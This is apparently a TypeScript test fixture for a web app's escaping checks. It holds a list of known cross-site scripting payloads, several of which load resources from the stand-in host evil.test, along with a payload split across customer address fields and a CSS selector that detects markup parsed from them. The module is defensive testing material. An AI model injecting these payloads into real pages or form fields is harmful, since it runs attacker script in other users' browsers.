/** Known injection payloads that make a reader's browser run a script, load a resource or leave the page. */
export const PAYLOADS: readonly string[] = [
  // Event handler attributes, and breaking out of an attribute.
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "' autofocus onfocus=hit() x='",
  '" onmouseover="hit()" style="position:fixed;inset:0" x="',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<body onload=hit()>',
  '<img/src=x\tonerror\n=hit()>',
  // Elements that run a script, load a resource or navigate.
  '</title><script>hit()</script>',
  '</script><script>hit()</script>',
  '<script src=//evil.test/x.js></script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</textarea><iframe srcdoc="<script>parent.hit()</script>">',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test/x)}</style>',
  '<form action=//evil.test><button>Go</button></form>',
  '<!--><script>hit()</script>-->',
  // SVG and MathML, which parse differently from HTML.
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a>',
  '<svg><foreignObject><iframe src=javascript:hit()>',
  '<math><mtext></p><img src=x onerror=hit()>',
  // URLs.
  'javascript:hit()',
  'JaVaScRiPt://%0ahit()',
  '<a href="java&#x09;script:hit()">x</a>',
  'data:text/html,<script>parent.hit()</script>',
  // Template expressions and string literals.
  "{{constructor.constructor('hit()')()}}",
  '$' + '{hit()}',
  '<%= hit() %>',
  "';hit();//",
  '\\";hit();//',
  // Other encodings.
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#x3c;img src=x onerror=hit()&#x3e;',
  '\\u003cimg src=x onerror=hit()\\u003e',
  '＜script＞hit()＜/script＞',
  '<ıframe src=javascript:hit()>',
]

/** A payload split over the fields of a customer, which becomes markup only where they are shown in a row. */
export const SPLIT_PAYLOAD = {
  short_name: 'Broken <img src=x ',
  company_name: ' onerror=hit() x=',
  addressline1: '> <!--',
  addressline2: '--><script>',
  city: 'hit()',
  state: '</script>',
} as const

/**
 * Selects the elements that a page contains if it parsed a payload as markup. The page's own scripts have a
 * `src`.
 */
export const PARSED_MARKUP = [
  ...[
    'img[src="x"]',
    'object',
    'embed',
    'base',
    'math',
    'foreignObject',
    'animate',
    'body details[ontoggle]',
  ],
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'srcdoc'].map(
    (name) => `[${name}]`,
  ),
  ...['href', 'src', 'action', 'content', 'data'].flatMap((name) =>
    ['evil.test', 'javascript:', 'script:hit'].map((text) => `[${name}*="${text}" i]`),
  ),
  'script:not([src]):not([type])',
].join(', ')
